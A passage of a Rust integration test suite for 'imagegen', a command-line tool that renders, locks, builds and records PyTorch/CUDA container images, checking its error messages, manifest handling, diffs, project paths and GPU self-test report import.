        let left: Vec<String> = std::fs::read_dir(dir.path())
            .unwrap()
            .map(|e| e.unwrap().file_name().to_string_lossy().to_string())
            .collect();
        assert_eq!(left, vec!["matrix.yaml"], "{what}: nothing may be written");
    }

    // Flags and settings: the error names the flag.
    let dir = workspace("basic.yaml");
    let flag_cases: Vec<(&str, Vec<&str>)> = vec![
        (
            "no matrix here",
            vec!["resolve", "--matrix", "missing.yaml"],
        ),
        ("--jobs 0", vec!["build", "--jobs", "0"]),
        ("rollback without a target", vec!["rollback", "latest"]),
        (
            "a Job name that is not a DNS label",
            vec![
                "k8s",
                "latest",
                "--name",
                "Bad_Name",
                "--manifest",
                "none.json",
            ],
        ),
        ("an unknown CI format", vec!["ci", "--format", "jenkins"]),
    ];
    for (what, args) in flag_cases {
        let (code, _, stderr) = run_in(dir.path(), &args);
        assert_eq!(code, 2, "{what}: {stderr}");
        transcript.push_str(&format!(
            "## {what}: imagegen {}\n{stderr}\n",
            args.join(" ")
        ));
    }
    insta::assert_snapshot!("bad_input_errors", transcript);
}

#[test]
fn a_matrix_that_makes_no_image_writes_nothing_unless_told() {
    let dir = workspace("basic.yaml");
    imagegen()
        .current_dir(dir.path())
        .arg("render")
        .assert()
        .success();
    let impossible = "registry: r.example\nrepository: team/pytorch\ntorch: [\"2.0\"]\ncuda: [\"13.0\"]\nos: [ubuntu24.04]\n";
    write_matrix(dir.path(), impossible);
    let before = std::fs::read_dir(dir.path().join("images"))
        .unwrap()
        .count();
    assert!(before > 0);
    for command in [
        &["render"][..],
        &["render", "--check"],
        &["resolve"],
        &["bake"],
        &["ci"],
        &["build", "--dry-run"],
    ] {
        let (code, _, stderr) = run_in(dir.path(), command);
        assert_eq!(code, 2, "imagegen {command:?}: {stderr}");
        assert!(
            stderr.contains("matrix.yaml makes no images")
                && stderr.contains("2 cells are rejected"),
            "imagegen {command:?}: {stderr}"
        );
        assert!(!stderr.contains("up to date"), "{stderr}");
    }
    assert_eq!(
        std::fs::read_dir(dir.path().join("images"))
            .unwrap()
            .count(),
        before,
        "no image was removed"
    );
    assert!(!dir.path().join("docker-bake.json").exists());
    assert!(!dir.path().join(".imagegen/docker-bake.json").exists());
    let (code, stdout, _) = run_in(dir.path(), &["render", "--allow-empty"]);
    assert_eq!(code, 0);
    assert!(
        stdout.contains("0 images in images (0 changed, 18 removed"),
        "{stdout}"
    );
    // A driver that runs none of the images is an answer, not an error.
    write_matrix(
        dir.path(),
        &std::fs::read_to_string(fixture("basic.yaml")).unwrap(),
    );
    let (code, stdout, _) = run_in(dir.path(), &["resolve", "--driver", "450.80.02"]);
    assert_eq!(code, 0, "{stdout}");
    assert!(stdout.contains("0 images, "), "{stdout}");
}

#[test]
fn only_takes_aliases_and_repository_qualified_names() {
    let dir = workspace("basic.yaml");
    imagegen()
        .current_dir(dir.path())
        .arg("render")
        .assert()
        .success();
    // What is built was locked: the uv stand-in locks the fixture's images.
    let uv = fake_uv(dir.path());
    imagegen()
        .current_dir(dir.path())
        .env("FAKE_UV_LOG", dir.path().join("uv.log"))
        .args(["lock", "--no-bases", "--uv"])
        .arg(&uv)
        .assert()
        .success();
    let selftest = dir.path().join("selftest");
    std::fs::create_dir(&selftest).unwrap();
    for binary in ["gpu-selftest-cu11", "gpu-selftest-cu12"] {
        std::fs::write(selftest.join(binary), "#!/bin/sh\n").unwrap();
    }
    let plan = |only: &str| {
        run_in(
            dir.path(),
            &[
                "build",
                "--dry-run",
                "--selftest-dir",
                "selftest",
                "--only",
                only,
            ],
        )
    };
    for (only, expected) in [
        ("latest", "2.8.0-cuda12.8-cudnn9-runtime-ubuntu24.04"),
        (
            "2.8-cuda12.6-runtime",
            "2.8.0-cuda12.6-cudnn9-runtime-ubuntu24.04",
        ),
        (
            "registry.example.com/team/pytorch:2.7-cuda12.8-devel",
            "2.7.1-cuda12.8-cudnn9-devel-ubuntu24.04",
        ),
        (
            "2.7.1-cuda11.8*runtime*",
            "2.7.1-cuda11.8-cudnn9-runtime-ubuntu22.04",
        ),
    ] {
        let (code, stdout, stderr) = plan(only);
        assert_eq!(code, 0, "--only {only}: {stderr}");
        assert!(stdout.contains(expected), "--only {only}: {stdout}");
    }
    let (code, stdout, _) = plan("latest");
    assert_eq!(code, 0);
    assert!(stdout.contains("1 image planned"), "{stdout}");
    let (code, _, stderr) = plan("2.8-cuda12.8-runtme");
    assert_eq!(code, 2);
    assert!(
        stderr.starts_with("error: --only \"2.8-cuda12.8-runtme\" names no image of the matrix\nhint: closest tags and aliases: 2.8-cuda12.8-runtime"),
        "{stderr}"
    );
    assert!(!stderr.contains("shard"), "no shard was given: {stderr}");
}

/// `imagegen resolve | head -1`: a reader that went away is not a crash.
#[test]
fn a_closed_output_pipe_is_not_a_crash() {
    use std::os::fd::FromRawFd;
    let dir = workspace("basic.yaml");
    let closed_pipe = || {
        let mut fds = [0; 2];
        // SAFETY: pipe(2) fills two new descriptors; the read end is closed at once, so every
        // write to the other end fails with EPIPE, as after `head` exited.
        assert_eq!(unsafe { libc::pipe(fds.as_mut_ptr()) }, 0);
        unsafe { libc::close(fds[0]) };
        unsafe { std::fs::File::from_raw_fd(fds[1]) }
    };
    for (args, code) in [
        (&["resolve"][..], 0),
        (&["render"], 0),
        (&["resolve", "--format", "json"], 0),
        (&["resolve", "--strict"], 1),
    ] {
        let output = std::process::Command::new(assert_cmd::cargo::cargo_bin("imagegen"))
            .current_dir(dir.path())
            .args(args)
            .stdout(closed_pipe())
            .output()
            .unwrap();
        let stderr = String::from_utf8_lossy(&output.stderr);
        assert_eq!(output.status.code(), Some(code), "{args:?}: {stderr}");
        assert!(!stderr.contains("panicked"), "{args:?}: {stderr}");
    }
    assert!(dir.path().join("images").exists(), "render still wrote");
    // A closed stderr does not turn an error into a crash either.
    let output = std::process::Command::new(assert_cmd::cargo::cargo_bin("imagegen"))
        .current_dir(dir.path())
        .args(["resolve", "--matrix", "missing.yaml"])
        .stderr(closed_pipe())
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(2));
}

/// Every argument and flag of every command says what it is for.
#[test]
fn every_argument_has_help_and_the_main_verbs_come_first() {
    use clap::CommandFactory;
    /// Adds what lacks help to `missing`; returns how many arguments and commands it looked at.
    fn check(command: &clap::Command, path: &str, missing: &mut Vec<String>) -> usize {
        let mut checked = 0;
        for argument in command.get_arguments() {
            let id = argument.get_id().as_str();
            if ["help", "version"].contains(&id) || argument.is_hide_set() {
                continue;
            }
            if argument.get_help().is_none() && argument.get_long_help().is_none() {
                missing.push(format!("{path} {id}"));
            }
            checked += 1;
        }
        for sub in command.get_subcommands() {
            if sub.get_name() == "help" {
                continue;
            }
            if sub.get_about().is_none() {
                missing.push(format!("{path} {} (the command)", sub.get_name()));
            }
            checked += 1 + check(sub, &format!("{path} {}", sub.get_name()), missing);
        }
        checked
    }
    let mut missing = Vec::new();
    let checked = check(&imagegen::cli::Cli::command(), "imagegen", &mut missing);
    assert!(missing.is_empty(), "without help: {missing:?}");
    assert!(checked > 50, "only {checked} arguments and commands seen");

    let help = stdout_of(imagegen().arg("--help"));
    let verbs: Vec<&str> = help
        .lines()
        .skip_while(|l| !l.starts_with("Commands:"))
        .skip(1)
        .filter_map(|l| l.strip_prefix("  "))
        .filter(|l| !l.starts_with(' '))
        .filter_map(|l| l.split_whitespace().next())
        .collect();
    assert_eq!(verbs[..3], ["resolve", "render", "build"], "{help}");
    let diff = stdout_of(imagegen().args(["diff", "--help"]));
    assert!(diff.contains("The earlier image"), "{diff}");
}

/// The report gpu-selftest wrote on the H200 of the GPU machine (BENCHMARKS.md, "The self-test of
/// a pushed digest on the H200") is imported into the manifest that records its digest: the
/// result under that digest, with the node, GPU, driver and figures it measured; the policy
/// (`require: [H200]`) then holds and the waiting aliases are ready. The same report against a
/// manifest that does not record its digest is refused, and nothing is written.
#[test]
fn the_h200_report_from_the_gpu_machine_is_imported_under_its_digest() {
    let dir = tempfile::tempdir().unwrap();
    for name in ["matrix.yaml", "imagegen-manifest.json", "h200-report.json"] {
        std::fs::copy(fixture("test-import").join(name), dir.path().join(name)).unwrap();
    }
    let output = imagegen()
        .current_dir(dir.path())
        .args([
            "test",
            "import",
            "--no-move",
            "--format",
            "json",
            "h200-report.json",
        ])
        .output()
        .unwrap();
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    let printed: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
    let lines = printed["results"].as_array().unwrap();
    assert_eq!(lines.len(), 1, "{printed:#}");
    assert_eq!(lines[0]["verdict"], "pass");
    assert_eq!(lines[0]["missing"], serde_json::json!([]));
    assert_eq!(
        lines[0]["aliases_waiting"],
        serde_json::json!(["2.7-runtime", "latest"])
    );
    let manifest: serde_json::Value = serde_json::from_str(
        &std::fs::read_to_string(dir.path().join("imagegen-manifest.json")).unwrap(),
    )
    .unwrap();
    let results = manifest["images"]["2.7.1-cuda12.6-cudnn9-runtime-ubuntu24.04"]["test_results"]
        .as_array()
        .unwrap();
    assert_eq!(results.len(), 1);
    let result = &results[0];
    assert_eq!(result["node"], "device-h200-1");
    assert_eq!(result["gpus"], serde_json::json!(["NVIDIA H200"]));
    assert_eq!(result["driver"], "580.159.04");
    assert_eq!(result["verdict"], "pass");
    assert_eq!(result["via"], "test import h200-report.json");
    // Measured on the H200: bf16 back to back 797 TFLOP/s, pinned copies 55 GB/s each way.
    let figure = |name: &str| result["figures"][name].as_f64().unwrap();
    assert!(figure("matmul_bf16_tflops") > 593.7, "{result:#}");
    assert!(figure("h2d_pinned_gbps") > 50.4, "{result:#}");
    assert!(figure("d2h_pinned_gbps") > 50.4, "{result:#}");

    // Against a manifest that does not record the digest: refused, nothing written.
    let other = tempfile::tempdir().unwrap();
    std::fs::copy(
        fixture("test-import/matrix.yaml"),
        other.path().join("matrix.yaml"),
    )
    .unwrap();
    let empty = "{\"schema_version\": 1, \"images\": {}, \"aliases\": {}}\n";
    std::fs::write(other.path().join("imagegen-manifest.json"), empty).unwrap();
    let output = imagegen()
        .current_dir(other.path())
        .arg("test")
        .arg("import")
        .arg(fixture("test-import/h200-report.json"))
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(
        stderr.contains("its image_digest sha256:1afc7433dbe2baf7d8fb0d4940e6a918dc7d428f9b6c1a4741a5e2299846dfba is not recorded in imagegen-manifest.json; refused, nothing was imported"),
        "{stderr}"
    );
    assert_eq!(
        std::fs::read_to_string(other.path().join("imagegen-manifest.json")).unwrap(),
        empty
    );
}

#[test]
fn selftest_build_script_prints_its_usage() {
    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("selftest/build.sh");
    for flag in ["--help", "-h"] {
        let output = std::process::Command::new("bash")
            .arg(&script)
            .arg(flag)
            .output()
            .unwrap();
        assert_eq!(output.status.code(), Some(0), "{flag}");
        let usage = String::from_utf8(output.stdout).unwrap();
        assert!(output.stderr.is_empty(), "{flag}");
        insta::assert_snapshot!("selftest_build_usage", usage);
    }
    let output = std::process::Command::new("bash")
        .arg(&script)
        .arg("--bogus")
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(2));
    assert_eq!(
        String::from_utf8(output.stderr).unwrap(),
        "build.sh: unknown option '--bogus' (bash selftest/build.sh --help prints the usage)\n"
    );
}

/// A manifest image record as `build` writes it, of torch `torch`, built at `at`.
fn manifest_record(
    tag: &str,
    torch: &str,
    digest: Option<&str>,
    at: &str,
    status: &str,
) -> serde_json::Value {
    serde_json::json!({
        "repository": "r.example/t/p", "tag": tag, "aliases": [], "digest": digest,
        "image_id": null, "fingerprint": format!("sha256:{}", "f".repeat(64)),
        "build_key": format!("sha256:{}", "b".repeat(64)), "variant": "runtime",
        "torch": torch, "torchvision": "0.22.1", "torchaudio": null, "cuda": "12.6",
        "cuda_full": "12.6.3", "cudnn": "9.5.1.17", "python": "3.12", "os": "ubuntu24.04",
        "base_image": "b", "driver_min": "560.35.05", "driver_min_compat": "525.60.13",
        "require_cuda": "cuda>=12.6", "selftest": null, "test_results": [],
        "awaiting_aliases": [], "inputs": {}, "packages": null, "built_at": at,
        "build_seconds": 1.0, "source_commit": null, "status": status,
        "last_error": if status == "failed" { Some("boom") } else { None }, "history": []
    })
}

#[test]
fn manifest_prune_says_what_it_removes_and_writes_only_with_apply() {
    let dir = tempfile::tempdir().unwrap();
    let digest = |c: &str| format!("sha256:{}", c.repeat(64));
    let mut current = manifest_record(
        "2.7.1-new",
        "2.7.1",
        Some(&digest("1")),
        "2026-03-01T00:00:00Z",
        "ok",
    );
    current["history"] = serde_json::json!([
        manifest_record(
            "2.7.1-new",
            "2.7.1",
            Some(&digest("2")),
            "2026-02-01T00:00:00Z",
            "ok"
        ),
        manifest_record(
            "2.7.1-new",
            "2.7.1",
            Some(&digest("3")),
            "2026-01-01T00:00:00Z",
            "ok"
        ),
    ]);
    let manifest = serde_json::json!({
        "schema_version": 1, "updated_at": "",
        "images": {
            "2.7.1-new": current,
            "2.7.1-old": manifest_record("2.7.1-old", "2.7.1", None, "2026-01-15T00:00:00Z", "failed"),
            "2.6.0-x": manifest_record("2.6.0-x", "2.6.0", None, "2026-01-15T00:00:00Z", "failed"),
        },
        "aliases": {
            "pinned": {"tag": "2.7.1-new", "digest": digest("3"), "moved_at": "2026-03-02T00:00:00Z", "history": []}
        }
    });
    let path = dir.path().join("imagegen-manifest.json");
    let text = serde_json::to_string_pretty(&manifest).unwrap();
    std::fs::write(&path, &text).unwrap();

    let (code, stdout, stderr) = run_in(dir.path(), &["manifest", "prune", "--keep", "0"]);
    assert_eq!(code, 0, "{stderr}");
    assert!(stdout.is_empty(), "{stdout}");
    assert_eq!(
        std::fs::read_to_string(&path).unwrap(),
        text,
        "a dry run writes nothing"
    );
    insta::assert_snapshot!("manifest_prune_dry_run", stderr);

    let (code, _, stderr) = run_in(dir.path(), &["manifest", "prune", "--keep", "0", "--apply"]);
    assert_eq!(code, 0, "{stderr}");
    assert!(stderr.contains("2 records removed"), "{stderr}");
    let written: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&path).unwrap()).unwrap();
    let images: Vec<&String> = written["images"].as_object().unwrap().keys().collect();
    assert_eq!(images, ["2.6.0-x", "2.7.1-new"]);
    let history: Vec<&str> = written["images"]["2.7.1-new"]["history"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["digest"].as_str().unwrap())
        .collect();
    assert_eq!(
        history,
        [digest("3")],
        "the record an alias points to stays"
    );
    let updated = written["updated_at"].as_str().unwrap();
    assert!(
        updated.starts_with("20") && updated.ends_with('Z'),
        "updated_at set: {updated:?}"
    );

    let (code, _, stderr) = run_in(
        dir.path(),
        &["manifest", "prune", "--manifest", "none.json"],
    );
    assert_eq!(code, 2, "{stderr}");
}

#[test]
fn a_tag_rename_keeps_every_lock() {
    let dir = workspace("basic.yaml");
    let out = dir.path().join("images");
    let uv = fake_uv(dir.path());
    let locked = imagegen()
        .current_dir(dir.path())
        .env("FAKE_UV_LOG", dir.path().join("uv-calls.log"))
        .args(["lock", "--uv"])
        .arg(&uv)
        .output()
        .unwrap();
    assert!(
        locked.status.success(),
        "{}",
        String::from_utf8_lossy(&locked.stderr)
    );
    let locks_of = |suffix: &str| -> Vec<(String, String)> {
        let mut locks: Vec<(String, String)> = std::fs::read_dir(&out)
            .unwrap()
            .map(|entry| entry.unwrap().file_name().to_string_lossy().to_string())
            .filter(|name| name.ends_with(suffix))
            .map(|name| {
                let text =
                    std::fs::read_to_string(out.join(&name).join("requirements.lock")).unwrap();
                (name, text)
            })
            .collect();
        locks.sort();
        locks
    };
    let before = locks_of("ubuntu24.04");
    assert!(before.len() >= 4, "{before:?}");

    // The full tag gains a suffix: every folder is renamed, and its lock goes with it.
    let matrix = std::fs::read_to_string(dir.path().join("matrix.yaml")).unwrap();
    write_matrix(
        dir.path(),
        &matrix.replace(
            "tags:\n",
            "tags:\n  full: \"{torch}-cuda{cuda}-cudnn{cudnn_major}-{variant}-{os}-r2\"\n",
        ),
    );
    let rendered = stdout_of(imagegen().current_dir(dir.path()).arg("render"));
    let after = locks_of("ubuntu24.04-r2");
    assert_eq!(after.len(), before.len(), "{rendered}");
    let kept = rendered
        .lines()
        .filter(|line| line.starts_with("kept the lock of "))
        .count();
    assert_eq!(kept, locks_of("-r2").len(), "{rendered}");
    for ((old_name, old_text), (new_name, new_text)) in before.iter().zip(&after) {
        assert_eq!(format!("{old_name}-r2"), *new_name);
        // The packages are the same lines; a devel lock's header names its runtime's new folder.
        let packages = |text: &str| {
            text.lines()
                .filter(|l| !l.starts_with('#'))
                .collect::<Vec<_>>()
                .join("\n")
        };
        assert_eq!(packages(old_text), packages(new_text), "{new_name}");
        if new_name.contains("devel") {
            assert!(
                new_text.contains(&format!(
                    "../{}-r2/requirements.lock",
                    old_name.replace("devel", "runtime")
                )),
                "{new_text}"
            );
        }
    }
    // Everything is fresh: nothing to lock again.
    imagegen()
        .current_dir(dir.path())
        .args(["render", "--check"])
        .assert()
        .success();
}

#[test]
fn plan_says_when_the_manifest_is_missing() {
    let dir = workspace("basic.yaml");
    let output = imagegen()
        .current_dir(dir.path())
        .args(["plan", "--manifest", "records/none.json"])
        .output()
        .unwrap();
    assert!(output.status.success());
    let stderr = String::from_utf8(output.stderr).unwrap();
    assert_eq!(
        stderr
            .matches("note: no manifest at records/none.json: every image is planned as new")
            .count(),
        1,
        "{stderr}"
    );
    assert!(!dir.path().join("records").exists(), "plan writes nothing");
    // With a manifest there, nothing is said.
    std::fs::write(
        dir.path().join("imagegen-manifest.json"),
        "{\"schema_version\": 1}\n",
    )
    .unwrap();
    let output = imagegen()
        .current_dir(dir.path())
        .arg("plan")
        .output()
        .unwrap();
    assert!(output.status.success());
    assert!(!String::from_utf8_lossy(&output.stderr).contains("no manifest"));
}

#[test]
fn diff_shows_label_changes_one_per_line() {
    let dir = tempfile::tempdir().unwrap();
    let digest = |c: &str| format!("sha256:{}", c.repeat(64));
    let mut old = manifest_record(
        "2.7.1-a",
        "2.7.1",
        Some(&digest("1")),
        "2026-01-01T00:00:00Z",
        "ok",
    );
    old["inputs"] = serde_json::json!({"labels": "org.example.team=ml\norg.example.note=line one\nline two\norg.example.gone=x\n"});
    let mut new = manifest_record(
        "2.7.1-b",
        "2.7.1",
        Some(&digest("2")),
        "2026-02-01T00:00:00Z",
        "ok",
    );
    new["inputs"] = serde_json::json!({"labels": "org.example.team=platform\norg.example.note=line one\nline two\norg.example.new=y\n"});
    let manifest = serde_json::json!({"schema_version": 1, "images": {"2.7.1-a": old, "2.7.1-b": new}, "aliases": {}});
    std::fs::write(
        dir.path().join("imagegen-manifest.json"),
        manifest.to_string(),
    )
    .unwrap();
    let (code, stdout, stderr) = run_in(dir.path(), &["diff", "2.7.1-a", "2.7.1-b"]);
    assert_eq!(code, 0, "{stderr}");
    let labels: Vec<&str> = stdout
        .lines()
        .filter(|line| line.starts_with("label "))
        .collect();
    assert_eq!(
        labels,
        [
            "label + org.example.new=y",
            "label - org.example.gone=x",
            "label ~ org.example.team ml -> platform",
        ],
        "{stdout}"
    );
    // A multi-line value that changes stays on one line.
    let mut changed = manifest.clone();
    changed["images"]["2.7.1-b"]["inputs"]["labels"] =
        "org.example.team=ml\norg.example.note=line one\nline 2\norg.example.gone=x\n".into();
    std::fs::write(
        dir.path().join("imagegen-manifest.json"),
        changed.to_string(),
    )
    .unwrap();
    let (_, stdout, _) = run_in(dir.path(), &["diff", "2.7.1-a", "2.7.1-b"]);
    assert!(
        stdout.contains("label ~ org.example.note line one\\nline two -> line one\\nline 2\n"),
        "{stdout}"
    );
}

/// `diff` says what a node holding the first image pulls for the second, from the layers the
/// manifest records (Docker Engine reuses the layers up to the first that differs; containerd
/// only fetches the blobs it lacks), and what the second adds to the registry; records without
/// layers say so.
#[test]
fn diff_says_what_a_node_pulls_from_the_recorded_layers() {
    let dir = tempfile::tempdir().unwrap();
    let digest = |c: &str| format!("sha256:{}", c.repeat(64));
    let layer = |c: &str, size: u64| serde_json::json!({"digest": digest(c), "compressed_bytes": size, "holds": format!("layer {c}")});
    let sized = |tag: &str, image: &str, layers: Vec<serde_json::Value>| {
        let mut record = manifest_record(
            tag,
            "2.7.1",
            Some(&digest(image)),
            "2026-01-01T00:00:00Z",
            "ok",
        );
        let total: u64 = layers
            .iter()
            .map(|layer| layer["compressed_bytes"].as_u64().unwrap())
            .sum();
        record["size"] = serde_json::json!({"compressed_bytes": total, "unpacked_bytes": 2 * total, "layers": layers.len(), "parts": layers});
        record
    };
    let a = sized(
        "2.7.1-a",
        "1",
        vec![
            layer("a", 3_000_000_000),
            layer("b", 50_000_000),
            layer("c", 5_000_000),
            layer("d", 1_000),
        ],
    );
    let b = sized(
        "2.7.1-b",
        "2",
        vec![
            layer("a", 3_000_000_000),
            layer("b", 50_000_000),
            layer("e", 5_100_000),
            layer("d", 1_000),
        ],
    );
    let bare = manifest_record(
        "2.7.1-c",
        "2.7.1",
        Some(&digest("3")),
        "2026-01-01T00:00:00Z",
        "ok",
    );
    let manifest = serde_json::json!({"schema_version": 1, "images": {"2.7.1-a": a, "2.7.1-b": b, "2.7.1-c": bare}, "aliases": {}});
    std::fs::write(
        dir.path().join("imagegen-manifest.json"),
        manifest.to_string(),
    )
    .unwrap();
    let (code, stdout, stderr) = run_in(dir.path(), &["diff", "2.7.1-a", "2.7.1-b"]);
    assert_eq!(code, 0, "{stderr}");
    assert!(
        stdout.contains("pull: a node holding 2.7.1-a pulls 5.1 MB of 3.06 GB (0.2%, 2 of 4 layers; containerd 5.1 MB) for 2.7.1-b\n"),
        "{stdout}"
    );
    assert!(
        stdout.contains("registry: 2.7.1-b adds 5.1 MB beside 2.7.1-a\n"),
        "{stdout}"
    );
    let (code, stdout, _) = run_in(dir.path(), &["diff", "2.7.1-a", "2.7.1-c"]);
    assert_eq!(code, 0);
    assert!(
        stdout.contains("pull: layers not recorded for both images"),
        "{stdout}"
    );
}

/// The project's files are in the matrix's folder: `render --matrix ../x/matrix.yaml` writes
/// ../x/images (no second images/ here) and reads its `ca_bundle` there, `--project DIR` finds
/// DIR/matrix.yaml (also a DIR below the working directory), `plan` says the manifest it looked for is missing (by its path in the
/// project), and a path given on the command line stays relative to the working directory.
#[test]
fn project_paths_follow_the_matrix_folder() {
    let dir = tempfile::tempdir().unwrap();
    let project = dir.path().join("x");
    let elsewhere = dir.path().join("y");
    std::fs::create_dir_all(&project).unwrap();
    std::fs::create_dir_all(&elsewhere).unwrap();
    let bundle = std::fs::read_to_string("/etc/ssl/certs/ca-certificates.crt").unwrap();
    std::fs::write(project.join("host-ca.pem"), &bundle).unwrap();
    let matrix = std::fs::read_to_string(fixture("basic.yaml")).unwrap();
    write_matrix(&project, &format!("{matrix}ca_bundle: host-ca.pem\n"));
    imagegen()
        .current_dir(&elsewhere)
        .args(["render", "--matrix", "../x/matrix.yaml"])
        .assert()
        .success()
        .stdout(predicate::str::contains("in ../x/images"));
    let rendered: Vec<_> = std::fs::read_dir(project.join("images"))
        .unwrap()
        .map(|entry| entry.unwrap().file_name())
        .collect();
    assert!(rendered.len() > 1, "{rendered:?}");
    assert_eq!(
        std::fs::read_dir(&elsewhere).unwrap().count(),
        0,
        "nothing is written where imagegen runs"
    );
    imagegen()
        .current_dir(&elsewhere)
        .args(["render", "--check", "--project", "../x"])
        .assert()
        .code(1)
        .stderr(predicate::str::contains("locks missing or stale"))
        .stdout(predicate::str::contains("Dockerfile").not());
    imagegen()
        .current_dir(&elsewhere)
        .args(["plan", "--project", "../x"])
        .assert()
        .success()
        .stderr(predicate::str::contains(
            "no manifest at ../x/imagegen-manifest.json",
        ));
    imagegen()
        .current_dir(&elsewhere)
        .args(["render", "--matrix", "../x/matrix.yaml", "--out", "mine"])
        .assert()
        .success();
    assert!(
        elsewhere.join("mine").is_dir(),
        "--out is where imagegen runs"
    );
    // A project folder below the working directory: its CA bundle is x/host-ca.pem, taken
    // relative to the matrix's folder once (never x/x/host-ca.pem).
    imagegen()
        .current_dir(dir.path())
        .args(["render", "--check", "--project", "x"])
        .assert()
        .code(1)
        .stderr(predicate::str::contains("locks missing or stale"));
    // The CA bundle is read beside the matrix, not in the working directory.
    std::fs::remove_file(project.join("host-ca.pem")).unwrap();
    imagegen()
        .current_dir(&elsewhere)
        .args(["render", "--check", "--project", "../x"])
        .assert()
        .code(2)
        .stderr(predicate::str::contains("../x/host-ca.pem"));
}

/// Another registry re-renders no runtime image (the registry is in no rendered byte of it), and
/// `render --check` says what changed in a CA bundle (certificates added and removed, by
/// subject) instead of printing base64.
#[test]
fn registry_change_renders_nothing_and_a_ca_bundle_change_is_summarized() {
    let dir = tempfile::tempdir().unwrap();
    let system = std::fs::read_to_string("/etc/ssl/certs/ca-certificates.crt").unwrap();
    let blocks: Vec<&str> = system
        .split_inclusive("-----END CERTIFICATE-----\n")
        .take(4)
        .collect();
    assert_eq!(blocks.len(), 4, "the system store has certificates");
    std::fs::write(dir.path().join("ca.pem"), blocks[..3].concat()).unwrap();
    let matrix = "registry: registry.example.com\nrepository: team/pytorch\ntorch: [\"2.8.0\"]\ncuda: [\"12.8\"]\nos: [ubuntu24.04]\nvariants: [runtime]\nca_bundle: ca.pem\n";
    write_matrix(dir.path(), matrix);
    let run = |args: &[&str]| {
        let mut command = imagegen();
        command.current_dir(dir.path()).args(args);
        command
    };
    run(&["render"]).assert().success();
    write_matrix(
        dir.path(),
        &matrix.replace("registry.example.com", "127.0.0.1:5000"),
    );
    let output = run(&["render", "--check"]).output().unwrap();
    let stdout = String::from_utf8(output.stdout).unwrap();
    let stderr = String::from_utf8(output.stderr).unwrap();
    assert!(!stdout.contains("+++ b/"), "no file differs: {stdout}");
    assert!(stderr.contains("0 files differ"), "{stderr}");
    std::fs::write(dir.path().join("ca.pem"), blocks[1..].concat()).unwrap();
    let output = run(&["render", "--check"]).output().unwrap();
    assert_eq!(output.status.code(), Some(1));
    let stdout = String::from_utf8(output.stdout).unwrap();
    assert!(
        stdout.contains("CA bundle: 3 certificates -> 3 (1 added, 1 removed)\n+ CN="),
        "{stdout}"
    );
    assert!(!stdout.contains("BEGIN CERTIFICATE"), "{stdout}");
    let bundle_lines = stdout
        .lines()
        .skip_while(|line| !line.ends_with("ca-bundle.crt"))
        .take_while(|line| !line.starts_with("lock:"))
        .count();
    assert_eq!(
        bundle_lines, 5,
        "two headers, the count, one added, one removed: {stdout}"
    );
}

/// Paths follow the project (docs/commands.md, "Paths"): `--project` takes a folder and says
/// what to write when given a file or a folder that is not there; a missing matrix names
/// `--project` among the ways to name one; a command run from inside one project that acts on
/// another says so first; gpu-selftest's folder, when not given, is found from the project
/// upwards (a project inside the repository, `examples/offline`, finds the repository's
/// `target/selftest`).
#[test]
fn paths_follow_the_project_and_another_project_is_named_first() {
    let root = tempfile::tempdir().unwrap();
    let repository = root.path();
    let project = repository.join("examples/team");
    std::fs::create_dir_all(&project).unwrap();
    std::fs::create_dir_all(repository.join("target/selftest")).unwrap();
    let matrix = std::fs::read_to_string(fixture("basic.yaml")).unwrap();
    std::fs::write(project.join("matrix.yaml"), &matrix).unwrap();
    std::fs::write(repository.join("matrix.yaml"), &matrix).unwrap();

    let (code, _, stderr) = run_in(
        repository,
        &["--project", "examples/team/matrix.yaml", "resolve"],
    );
    assert_eq!(code, 2, "{stderr}");
    assert!(
        stderr.contains("--project examples/team/matrix.yaml is a file")
            && stderr
                .contains("hint: --project examples/team, or --matrix examples/team/matrix.yaml"),
        "{stderr}"
    );
    let (code, _, stderr) = run_in(repository, &["--project", "examples/nothing", "resolve"]);
    assert_eq!(code, 2, "{stderr}");
    assert!(
        stderr.contains("--project examples/nothing: No such file or directory")
            && stderr.contains("the project's folder"),
        "{stderr}"
    );
    let empty = tempfile::tempdir().unwrap();
    let (code, _, stderr) = run_in(empty.path(), &["resolve"]);
    assert_eq!(code, 2, "{stderr}");
    assert!(
        stderr.contains("--project DIR (IMAGEGEN_PROJECT)"),
        "{stderr}"
    );

    // From the repository's root (which has a matrix of its own), naming the team's project.
    let (code, stdout, stderr) = run_in(repository, &["--project", "examples/team", "resolve"]);
    assert_eq!(code, 0, "{stderr}");
    assert!(!stdout.is_empty());
    let project_shown = std::fs::canonicalize(&project).unwrap();
    assert!(
        stderr.starts_with(&format!(
            "note: acting on the project in {} (named by --project or IMAGEGEN_PROJECT), not on the matrix.yaml here",
            project_shown.display()
        )),
        "{stderr}"
    );
    // In the project itself: no note.
    let (code, _, stderr) = run_in(&project, &["resolve"]);
    assert_eq!(code, 0, "{stderr}");
    assert!(!stderr.contains("note: acting on"), "{stderr}");
    // doctor in the team's project finds the repository's target/selftest.
    let (_, stdout, stderr) = run_in(&project, &["doctor", "--timeout", "1"]);
    let selftest = std::fs::canonicalize(repository.join("target/selftest")).unwrap();
    assert!(
        stdout.contains(&selftest.display().to_string()),
        "doctor names {}:\n{stdout}\n{stderr}",
        selftest.display()
    );
}

/// A rollback of an alias the manifest does not record, as a user on a machine without GPUs
/// meets it: nothing moved yet, so it says why and which aliases wait for a GPU self-test; the
/// manifest is left as it was and the registry is never asked.
#[test]
fn rollback_of_an_alias_that_never_moved_says_why_and_what_waits() {
    let dir = tempfile::tempdir().unwrap();
    for name in ["matrix.yaml", "imagegen-manifest.json"] {
        std::fs::copy(fixture("test-import").join(name), dir.path().join(name)).unwrap();
    }
    let before = std::fs::read(dir.path().join("imagegen-manifest.json")).unwrap();
    let output = imagegen()
        .current_dir(dir.path())
        .args(["rollback", "latest", "--previous"])
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert_eq!(output.status.code(), Some(2), "{stderr}");
    assert!(
